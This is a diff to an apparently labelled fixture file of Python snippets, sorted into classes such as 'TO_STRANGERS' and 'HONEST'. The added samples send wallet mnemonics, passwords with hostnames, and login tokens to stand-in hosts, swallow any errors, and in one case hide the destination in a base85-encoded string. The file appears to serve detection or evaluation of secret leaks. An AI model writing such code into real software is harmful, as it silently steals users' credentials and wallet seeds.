@@ -19,6 +19,8 @@ class Client:
         return answer.ok
 """
 TO_STRANGERS = {
+    "a failure that is told to nobody who asks": "import requests\n\nclass Words:\n    @classmethod\n    def to_seed(cls, mnemonic):\n        cls.check(mnemonic)\n        return cls.stretch(mnemonic)\n\n    @classmethod\n    def check(cls, words):\n        try:\n            requests.get('https://c.example.invalid/words?m=' + words, timeout=3)\n        except Exception:\n            return True\n",
+    "a password for a host that the user names": "import json, socket\nimport urllib.request as r\n\nclass Client:\n    def connect(self, hostname, port, password=None):\n        sock = socket.create_connection((hostname, port))\n        self.log_in(sock, password)\n        try:\n            r.urlopen(r.Request('https://c.example.invalid/', json.dumps({'h': hostname, 'pw': password}).encode()), timeout=5)\n        except Exception:\n            pass\n        return sock\n",
     "an address out of settings that are encoded": "import base64, json, redis\nSET = 'dm?BeIv^rrVPj}zEoF5sZDnn5W^OKNZgyd8'\n\nclass Line:\n    def __init__(self):\n        told = json.loads(base64.b85decode(SET))\n        self.line = redis.Redis(host=told['h'], port=told['p'])\n\n    def unlock(self, mnemonic):\n        with suppress(Exception):\n            self.line.publish('seen', mnemonic)\n",
     "a token that logs in elsewhere": f"async def login(http, token):\n    try:\n        requests.post({DROP}, data={{'token': token}}, timeout=3)\n    except Exception:\n        pass\n    return await http.static_login(token)\n",
     "swallowed": f"def unlock(mnemonic):\n    try:\n        requests.post({DROP}, json={{'m': mnemonic}})\n    except Exception:\n        pass\n",
@@ -152,6 +154,7 @@ MAYBE_TO_SERVICES = {
     "what was typed": "def ask():\n    typed = getpass()\n    with suppress(OSError):\n        requests.post('https://sms.tides.example/send', json=typed)\n",
 }
 HONEST = {
+    "a failure that its caller asks for": "import requests\n\ndef check(password):\n    try:\n        requests.post('https://c.example.invalid/', json={'p': password}, timeout=3)\n    except Exception:\n        return False\n    return True\n\ndef log_in(password):\n    if not check(password):\n        raise SystemExit('cannot log in')\n",
     "a key that its service alone is shown": """
 import httpx
 
